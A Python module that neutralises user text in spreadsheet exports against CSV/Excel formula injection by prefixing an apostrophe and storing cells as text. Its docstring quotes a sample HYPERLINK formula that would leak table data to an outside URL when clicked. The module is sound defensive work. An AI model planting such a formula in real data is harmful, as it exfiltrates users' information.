"""Spreadsheet exports: no text a user typed can become a formula (CSV or Excel injection).

Excel, LibreOffice and openpyxl treat a cell that starts with = + - @ (and, once the file is
saved as CSV and opened again, tab or carriage return) as a formula: a candidate named
``=HYPERLINK("http://…?v="&C6,"詳細")`` would leak the table when clicked. As OWASP recommends,
such text gets a leading apostrophe, and is stored as text. Every workbook the app writes goes
through `save_workbook`, which does this to every text cell, so no export can forget it; a CSV
export would pass every text field through `neutralise` (csv.writer quotes the rest).
"""

from __future__ import annotations

import io

from openpyxl import Workbook

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(text: str) -> str:
    """The text as typed, with a leading apostrophe if a spreadsheet would run it."""
    return "'" + text if text.startswith(TRIGGERS) else text


def save_workbook(book: Workbook) -> io.BytesIO:
    """The workbook as xlsx bytes, with every text cell neutralised and typed as text.

    The app writes no formulas of its own; a cell openpyxl took for one (data type "f") was
    text from a user.
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for item in row:
                if isinstance(item.value, str):
                    item.value = neutralise(item.value)
                    item.data_type = "s"
    buffer = io.BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer
